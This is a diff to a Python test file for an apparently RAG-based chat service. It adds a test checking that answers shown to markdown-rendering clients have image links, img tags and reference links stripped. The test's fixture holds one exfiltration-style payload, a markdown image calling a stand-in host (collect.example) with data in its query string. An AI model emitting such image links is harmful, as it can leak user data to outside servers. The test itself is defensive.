@@ -10,7 +10,16 @@ import pytest
 from rag.errors import EndpointTimeoutError
 from rag.web.desk import Desk
 from tests.web.conftest import Served, wait_until
-from tests.web.scripted_newsroom import COLD, SAFE, UNKNOWN, Script, ScriptedNewsroom
+from tests.web.scripted_newsroom import (
+    COLD,
+    FERRY,
+    HULL,
+    SAFE,
+    UNKNOWN,
+    Line,
+    Script,
+    ScriptedNewsroom,
+)
 
 TEXT = (
     "214 people were on board when the ferry ran aground. [1] "
@@ -72,6 +81,28 @@ def test_a_stream_says_the_same_in_sentences(client: openai.OpenAI) -> None:
     assert chunks[-1].usage is not None
     finished = [c for c in chunks if c.choices and c.choices[0].finish_reason == "stop"]
     assert finished[0].model_extra["groundwire"]["status"] == "answered"
+
+
+def test_a_client_that_renders_markdown_is_given_nothing_to_fetch(
+    client: openai.OpenAI, newsroom: ScriptedNewsroom
+) -> None:
+    said = "Divers ![x](https://collect.example/?q=hull) <img src=y> will look [here][1]."
+    newsroom.scripts["What now?"] = Script(lines=(Line(said, ((FERRY, HULL),)),))
+
+    message = ask(client, "What now?").choices[0].message
+
+    assert message.content is not None
+    assert "](" not in message.content
+    assert "][" not in message.content
+    assert "<img" not in message.content
+    assert message.annotations is not None
+    (mark,) = (a.url_citation for a in message.annotations)
+    assert message.content[mark.start_index : mark.end_index] == "[1]"
+    streamed = client.chat.completions.create(
+        model="groundwire", messages=[{"role": "user", "content": "What now?"}], stream=True
+    )
+    pieces = [chunk.choices[0].delta.content or "" for chunk in streamed if chunk.choices]
+    assert "".join(pieces) == message.content
 
 
 def test_not_knowing_is_said_in_words(client: openai.OpenAI) -> None:
